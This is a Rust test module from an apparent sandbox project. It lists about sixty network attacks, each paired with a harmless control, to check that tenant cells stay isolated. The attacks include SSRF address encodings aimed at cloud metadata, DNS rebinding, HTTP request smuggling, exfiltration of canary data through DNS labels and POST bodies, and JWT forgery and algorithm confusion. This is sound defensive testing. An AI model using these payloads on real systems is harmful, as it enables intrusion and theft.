//! What leaves and what comes in: attacks on a whole host, with its warden and its edge.
//!
//! Each has a control that asks for nearly the same and gets it: the same words to a destination that the policy
//! allows, the same connection from outside any cell, the same request with a token that is good.

use super::FLAG;
use cofferdam_sandbox::probe::Attempt::{self, Find, Lookup, Tcp, TcpName};
use std::net::{Ipv4Addr, SocketAddr};

/// Where and how something is tried.
#[derive(Clone, Debug)]
pub(crate) enum How {
    /// By a process in the tenant's cell.
    Cell(Attempt),
    /// By a process of the world that is in no cell.
    Outside(Attempt),
    /// A request to the edge.
    Edge(Knock),
}

/// A request to the edge, which succeeds if a cell answers it.
#[derive(Clone, Debug)]
pub(crate) struct Knock {
    /// Whose token.
    pub(crate) token: Token,
    /// Whose origin.
    pub(crate) tenant: &'static str,
    /// What is asked for.
    pub(crate) path: &'static str,
    /// The `Host` header; none is the tenant's own.
    pub(crate) host: Option<&'static str>,
    /// More headers, each line ending in CRLF.
    pub(crate) headers: &'static str,
    /// What the cell must have been told for this to count as a success; empty is anything.
    pub(crate) told: &'static str,
}

/// A token of a request.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Token {
    /// Good.
    Good,
    /// None at all.
    None,
    /// The neighbour's, which is good there.
    Neighbours,
    /// It was revoked.
    Revoked,
    /// Its time is over.
    Expired,
    /// Its algorithm says `none`, and nothing signs it.
    Unsigned,
    /// One character of its signature is another.
    Forged,
    /// Signed with another kind of key: the public one, as a secret.
    Confused,
}

/// One attack on a host.
#[derive(Clone, Debug)]
pub(crate) struct Wire {
    pub(crate) id: &'static str,
    pub(crate) title: &'static str,
    /// What answers it, in words: these are no protections of a cell.
    pub(crate) layers: &'static [&'static str],
    pub(crate) attack: How,
    /// What the witness outside must not have heard; empty where the answer tells enough.
    pub(crate) leak: &'static str,
    /// It is to wait for somebody's answer.
    pub(crate) held: bool,
    pub(crate) control: How,
}

/// The neighbour of the tenant that is proved.
pub(crate) const TENANT: &str = "acme";
pub(crate) const NEIGHBOUR: &str = "globex";
/// What the policy of the tenant allows and asks about.
pub(crate) const POLICY: &str = "version: 1\ndefault: deny\nrules:\n\
    \x20 - {allow: allowed.example, protocol: http}\n\
    \x20 - {allow: rebind-metadata.example, protocol: http}\n\
    \x20 - {allow: rebind-loopback.example, protocol: http}\n\
    \x20 - {allow: rebind-private.example, protocol: http}\n\
    \x20 - {allow: rebind-carrier.example, protocol: http}\n\
    \x20 - {allow: rebind-link.example, protocol: http}\n\
    \x20 - {allow: rebind-host.example, protocol: http}\n\
    \x20 - {allow: rebind-mapped.example, protocol: http}\n\
    \x20 - {allow: rebind-nat64.example, protocol: http}\n\
    \x20 - {ask: held.example, protocol: http}\n";
/// The key of the tenant's model, which no cell may see.
pub(crate) const SECRET: &str = "canary-of-the-models-key";
const UPGRADE: &str = "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
    Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
const FOREIGN_UPGRADE: &str = "Origin: http://evil.example\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
    Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
/// What names mean to the name server outside. All others are [`WEB`].
pub(crate) const NAMES: &[(&str, &str)] = &[
    ("rebind-metadata.example", "169.254.169.254"),
    ("rebind-loopback.example", "127.0.0.1"),
    ("rebind-private.example", "10.0.0.1"),
    ("rebind-carrier.example", "100.100.100.200"),
    ("rebind-link.example", "169.254.7.7"),
    ("rebind-host.example", "192.0.2.1"),
    ("rebind-mapped.example", "::ffff:169.254.169.254"),
    ("rebind-nat64.example", "64:ff9b::a9fe:a9fe"),
];
/// The web outside.
pub(crate) const WEB: &str = "93.184.216.34";
/// The name server outside.
pub(crate) const NAMESERVER: &str = "9.9.9.9";
/// The addresses outside at which a witness answers.
pub(crate) const OUTSIDE: &[&str] = &[
    WEB,
    NAMESERVER,
    "169.254.169.254",
    "169.254.7.7",
    "10.0.0.1",
    "100.100.100.200",
    "2606:2800:220:1::1",
    "fd00:ec2::254",
];

const PROXY: SocketAddr = SocketAddr::new(std::net::IpAddr::V4(Ipv4Addr::LOCALHOST), 3128);

fn say(to: SocketAddr, words: String) -> Attempt {
    Tcp { to, say: words, expect: FLAG.into() }
}

fn get(target: &str) -> Attempt {
    let host = target.trim_start_matches("http://").trim_end_matches('/');
    say(PROXY, format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"))
}

fn connect(target: &str) -> Attempt {
    say(PROXY, format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\nGET / HTTP/1.0\r\n\r\n"))
}

fn plain(address: &str, port: u16) -> Option<Attempt> {
    let to = SocketAddr::new(address.parse().ok()?, port);
    Some(say(to, "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".into()))
}

/// The same words to what is allowed.
fn allowed() -> How {
    How::Cell(get("http://allowed.example/"))
}

pub(crate) fn wires() -> Vec<Wire> {
    [captured(), proxied(), rebound(), names(), carried(), secrets(), edge(), sockets()].concat()
}

/// Straight to an address.
fn captured() -> Vec<Wire> {
    let rows: [(&str, &str, &str, u16, &[&str]); 9] = [
        ("egress.literal", "connect to an address that no rule names", WEB, 80, &["policy"]),
        ("egress.literal-port", "connect to another port of an address", WEB, 22, &["policy"]),
        ("egress.literal-6", "connect to an IPv6 address", "2606:2800:220:1::1", 80, &["policy"]),
        (
            "egress.metadata",
            "connect to the cloud's metadata",
            "169.254.169.254",
            80,
            &["guard", "policy", "uid firewall"],
        ),
        (
            "egress.metadata-6",
            "connect to the cloud's metadata, IPv6",
            "fd00:ec2::254",
            80,
            &["guard", "policy", "uid firewall"],
        ),
        (
            "egress.metadata-other",
            "connect to another cloud's metadata",
            "100.100.100.200",
            80,
            &["guard", "policy", "uid firewall"],
        ),
        (
            "egress.link-local",
            "connect to a link-local address",
            "169.254.7.7",
            80,
            &["guard", "policy", "uid firewall"],
        ),
        (
            "egress.private",
            "connect to a private address",
            "10.0.0.1",
            80,
            &["guard", "policy", "uid firewall"],
        ),
        ("egress.nameserver", "connect to the host's name server", NAMESERVER, 53, &["policy"]),
    ];
    let wire = |(id, title, address, port, layers): (_, _, &str, u16, _)| {
        let attempt = plain(address, port)?;
        let (attack, control) = (How::Cell(attempt.clone()), How::Outside(attempt));
        Some(Wire { id, title, layers, attack, leak: "", held: false, control })
    };
    rows.into_iter().filter_map(wire).collect()
}

/// By the explicit proxy.
fn proxied() -> Vec<Wire> {
    let rows: [(&str, &str, Attempt); 19] = [
        ("proxy.unlisted", "ask the proxy for a name that no rule names", get("http://unlisted.example/")),
        (
            "proxy.suffix",
            "ask for a name that begins like an allowed one",
            get("http://allowed.example.evil.example/"),
        ),
        ("proxy.prefix", "ask for a name that ends like an allowed one", get("http://evilallowed.example/")),
        (
            "proxy.user",
            "put the allowed name where the user belongs",
            get("http://allowed.example@unlisted.example/"),
        ),
        ("proxy.decimal", "write the metadata address as one number", get("http://2852039166/")),
        ("proxy.hexadecimal", "write it in hexadecimal", get("http://0xA9FEA9FE/")),
        ("proxy.octal", "write it in octal", get("http://0251.0376.0251.0376/")),
        ("proxy.short", "write it with fewer dots", get("http://169.16689662/")),
        ("proxy.mapped", "write it as a mapped address", get("http://[::ffff:169.254.169.254]/")),
        ("proxy.nat64", "write it as a NAT64 address", get("http://[64:ff9b::a9fe:a9fe]/")),
        ("proxy.sixtofour", "write it as a 6to4 address", get("http://[2002:a9fe:a9fe::1]/")),
        ("proxy.connect-metadata", "tunnel to the metadata address", connect("169.254.169.254:80")),
        ("proxy.connect-literal", "tunnel to an address", connect("93.184.216.34:80")),
        ("proxy.connect-ssh", "tunnel to a port that is no web server's", connect("allowed.example:22")),
        ("proxy.connect-zero", "tunnel to port 0", connect("allowed.example:0")),
        ("proxy.itself", "have the proxy connect to itself", connect("127.0.0.1:3128")),
        ("proxy.any", "have the proxy connect to all of its addresses", connect("0.0.0.0:80")),
        ("proxy.edge", "have the proxy connect to the host's edge", connect("127.0.0.1:8471")),
        ("proxy.localhost", "have the proxy connect to localhost", connect("localhost:8471")),
    ];
    let wire = |(id, title, attempt)| Wire {
        id,
        title,
        layers: &["policy", "guard", "uid firewall"],
        attack: How::Cell(attempt),
        leak: "",
        held: false,
        control: allowed(),
    };
    rows.into_iter().map(wire).collect()
}

/// Names that the policy allows and that mean what nobody may reach.
fn rebound() -> Vec<Wire> {
    let rows: [(&str, &str, &str); 8] = [
        ("rebind.metadata", "have an allowed name mean the metadata address", "rebind-metadata.example"),
        ("rebind.loopback", "have an allowed name mean the host's loopback", "rebind-loopback.example"),
        ("rebind.private", "have an allowed name mean a private address", "rebind-private.example"),
        ("rebind.carrier", "have an allowed name mean a carrier's address", "rebind-carrier.example"),
        ("rebind.link-local", "have an allowed name mean a link-local address", "rebind-link.example"),
        ("rebind.host", "have an allowed name mean the host itself", "rebind-host.example"),
        ("rebind.mapped", "have an allowed name mean a mapped address", "rebind-mapped.example"),
        ("rebind.nat64", "have an allowed name mean a NAT64 address", "rebind-nat64.example"),
    ];
    let wire = |(id, title, name)| Wire {
        id,
        title,
        layers: &["guard", "uid firewall"],
        attack: How::Cell(get(&format!("http://{name}/"))),
        leak: "",
        held: false,
        control: allowed(),
    };
    rows.into_iter().map(wire).collect()
}

/// What a name is worth once it is allowed.
fn names() -> Vec<Wire> {
    let named = |host: &str| {
        let words = format!("GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
        How::Cell(TcpName { name: "allowed.example".into(), port: 80, say: words, expect: FLAG.into() })
    };
    let through = |words: &str| How::Cell(say(PROXY, words.into()));
    vec![
        Wire {
            id: "names.other-host",
            title: "connect to an allowed name and ask for another",
            layers: &["host check"],
            attack: named("unlisted.example"),
            leak: "",
            held: false,
            control: named("allowed.example"),
        },
        Wire {
            id: "names.two-hosts",
            title: "ask for two names at once",
            layers: &["host check"],
            attack: named("allowed.example\r\nHost: unlisted.example"),
            leak: "",
            held: false,
            control: named("allowed.example"),
        },
        Wire {
            id: "names.smuggled",
            title: "hide a second request behind two lengths",
            layers: &["head parser"],
            attack: through(
                "POST http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 4\r\n\
                 Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: unlisted.example\r\n\r\n",
            ),
            leak: "smuggled",
            held: false,
            control: allowed(),
        },
        Wire {
            id: "names.second-host",
            title: "ask for another name on a connection that was allowed",
            layers: &["policy"],
            attack: through(
                "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n\
                 GET http://unlisted.example/second HTTP/1.1\r\nHost: unlisted.example\r\n\r\n",
            ),
            leak: "/second",
            held: false,
            control: allowed(),
        },
        Wire {
            id: "names.obsolete-fold",
            title: "hide a name in a folded header",
            layers: &["head parser"],
            attack: through(
                "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nX-A: b\r\n Host: folded.example\r\n\r\n",
            ),
            leak: "folded.example",
            held: false,
            control: allowed(),
        },
        Wire {
            id: "names.nul",
            title: "end a name before its end",
            layers: &["head parser"],
            attack: through(
                "GET http://unlisted.example\0.allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n",
            ),
            leak: "",
            held: false,
            control: allowed(),
        },
    ]
}

/// What a tenant's agent would carry out.
fn carried() -> Vec<Wire> {
    let post = |words: &str| {
        How::Cell(say(
            PROXY,
            format!(
                "POST http://unlisted.example/ HTTP/1.1\r\nHost: unlisted.example\r\nContent-Length: {}\r\n\
                 Connection: close\r\n\r\n{words}",
                words.len()
            ),
        ))
    };
    let lookup = |name: &str| Lookup { name: name.into() };
    vec![
        Wire {
            id: "carry.label",
            title: "carry data out in a name that is looked up",
            layers: &["synthetic names"],
            attack: How::Cell(lookup("canary-in-label.unlisted.example")),
            leak: "canary-in-label",
            held: false,
            control: How::Outside(lookup("control-in-label.unlisted.example")),
        },
        Wire {
            id: "carry.allowed-label",
            title: "carry data out in a name below an allowed one",
            layers: &["synthetic names", "policy"],
            attack: How::Cell(lookup("canary-below.allowed.example")),
            leak: "canary-below",
            held: false,
            control: How::Outside(lookup("control-below.allowed.example")),
        },
        Wire {
            id: "carry.post",
            title: "post data to a name that no rule names",
            layers: &["policy"],
            attack: post("canary-in-the-clear"),
            leak: "canary-in-the-clear",
            held: false,
            control: allowed(),
        },
        Wire {
            id: "carry.base64",
            title: "post it in base64",
            layers: &["policy"],
            attack: post("Y2FuYXJ5LWluLWJhc2U2NA"),
            leak: "Y2FuYXJ5LWluLWJhc2U2NA",
            held: false,
            control: allowed(),
        },
        Wire {
            id: "carry.held",
            title: "connect to a name that somebody is asked about",
            layers: &["approvals"],
            attack: How::Cell(get("http://held.example/")),
            leak: "held.example",
            held: true,
            control: allowed(),
        },
    ]
}

/// The key of the tenant's model, which its warden alone has.
fn secrets() -> Vec<Wire> {
    let find = |words: &str, below: &[&str]| {
        How::Cell(Find { words: words.into(), below: below.iter().map(Into::into).collect() })
    };
    let files = ["/sandbox", "/tmp", "/etc"];
    vec![
        Wire {
            id: "secrets.environment",
            title: "find the model's key in an environment",
            layers: &["the warden keeps it"],
            attack: find(SECRET, &[]),
            leak: "",
            held: false,
            control: find("PATH=", &[]),
        },
        Wire {
            id: "secrets.files",
            title: "find the model's key in a file",
            layers: &["the warden keeps it"],
            attack: find(SECRET, &files),
            leak: "",
            held: false,
            control: find("nameserver 127.0.0.1", &files),
        },
    ]
}

/// Clients that want a WebSocket.
fn sockets() -> Vec<Wire> {
    let good =
        Knock { token: Token::Good, tenant: TENANT, path: "/ws", host: None, headers: UPGRADE, told: "" };
    let with = |token| Knock { token, ..good.clone() };
    let foreign = Knock { headers: FOREIGN_UPGRADE, ..good.clone() };
    let misdirected = Knock { host: Some("evil.example"), ..good.clone() };
    let rows: [(&str, &str, &[&str], Knock); 5] = [
        ("socket.no-token", "open a WebSocket without a token", &["token"], with(Token::None)),
        (
            "socket.neighbours",
            "open one with the neighbour's token",
            &["token: tenant"],
            with(Token::Neighbours),
        ),
        ("socket.revoked", "open one with a revoked token", &["token: revocation"], with(Token::Revoked)),
        ("socket.foreign-origin", "open one from a page of another origin", &["origin"], foreign),
        ("socket.other-host", "open one under another host's name", &["host check"], misdirected),
    ];
    let wire = |(id, title, layers, knock)| Wire {
        id,
        title,
        layers,
        attack: How::Edge(knock),
        leak: "",
        held: false,
        control: How::Edge(good.clone()),
    };
    rows.into_iter().map(wire).collect()
}

/// Clients.
fn edge() -> Vec<Wire> {
    let good = Knock { token: Token::Good, tenant: TENANT, path: "/", host: None, headers: "", told: "" };
    let with = |token| Knock { token, ..good.clone() };
    let rows: [(&str, &str, &[&str], Knock); 15] = [
        ("edge.no-token", "come without a token", &["token"], with(Token::None)),
        (
            "edge.unsigned",
            "come with a token that says it is not signed",
            &["token: algorithm"],
            with(Token::Unsigned),
        ),
        ("edge.forged", "come with another signature", &["token: signature"], with(Token::Forged)),
        (
            "edge.confused",
            "come with a token signed by the public key",
            &["token: algorithm"],
            with(Token::Confused),
        ),
        ("edge.neighbours", "come with the neighbour's token", &["token: tenant"], with(Token::Neighbours)),
        (
            "edge.swapped",
            "come to the neighbour with one's own token",
            &["token: tenant"],
            Knock { tenant: NEIGHBOUR, ..good.clone() },
        ),
        ("edge.revoked", "come with a token that was revoked", &["token: revocation"], with(Token::Revoked)),
        ("edge.expired", "come with a token whose time is over", &["token: expiry"], with(Token::Expired)),
        (
            "edge.foreign-origin",
            "come from a page of another origin",
            &["origin"],
            Knock { headers: "Origin: http://evil.example\r\n", ..good.clone() },
        ),
        (
            "edge.neighbours-origin",
            "come from a page of the neighbour",
            &["origin"],
            Knock { headers: "Origin: http://globex.localhost:8471\r\n", ..good.clone() },
        ),
        (
            "edge.cross-site",
            "have a browser come from another site",
            &["fetch metadata"],
            Knock { headers: "Sec-Fetch-Site: cross-site\r\n", ..good.clone() },
        ),
        (
            "edge.service-worker",
            "install a service worker",
            &["fetch metadata"],
            Knock { headers: "Service-Worker: script\r\n", ..good.clone() },
        ),
        (
            "edge.other-host",
            "come under a name that is not the host's",
            &["host check"],
            Knock { host: Some("evil.example"), ..good.clone() },
        ),
        (
            "edge.identity",
            "say oneself who one is",
            &["headers made anew"],
            Knock { headers: "X-Cofferdam-User: m999\r\n", told: "m999", ..good.clone() },
        ),
        (
            "edge.forwarded",
            "say oneself where one comes from",
            &["headers made anew"],
            Knock { headers: "X-Forwarded-For: 198.51.100.99\r\n", told: "198.51.100.99", ..good.clone() },
        ),
    ];
    let wire = |(id, title, layers, knock)| Wire {
        id,
        title,
        layers,
        attack: How::Edge(knock),
        leak: "",
        held: false,
        control: How::Edge(good.clone()),
    };
    rows.into_iter().map(wire).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_wire_has_a_name_of_its_own() {
        let wires = wires();
        let names: std::collections::BTreeSet<_> = wires.iter().map(|wire| wire.id).collect();
        assert!(names.len() == wires.len() && wires.len() >= 60, "{}", wires.len());
    }
}
